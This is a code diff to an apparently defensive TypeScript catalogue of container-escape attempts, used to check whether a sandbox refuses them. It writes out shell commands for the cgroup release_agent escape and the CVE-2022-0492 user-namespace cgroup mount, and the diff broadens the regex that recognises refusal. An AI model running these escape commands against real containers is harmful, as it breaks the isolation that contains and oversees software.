@@ -186,7 +186,8 @@ export const waysOut: Record<string, Attempt> = {
     program: `mount -t cgroup -o ${isV1 ? memory.controllers : 'none,name=barehand'} none $dir && ${rewrite('$dir/release_agent')}`,
     lifted: ['--isolate', 'mount,pid', '--cap-add', 'sys_admin'],
     even: ['--privileged'],
-    refused: /permission denied|must be superuser|No such file/,
+    unproved: !isV1 && 'v2 has none, and the kernel may not have v1',
+    refused: /permission denied|must be superuser|No such file|does not exist|unknown filesystem/,
   },
   'a cgroup mount in a user namespace, CVE-2022-0492': {
     program: `unshare --user --map-root-user --mount --cgroup ${mountCgroup} $dir`,
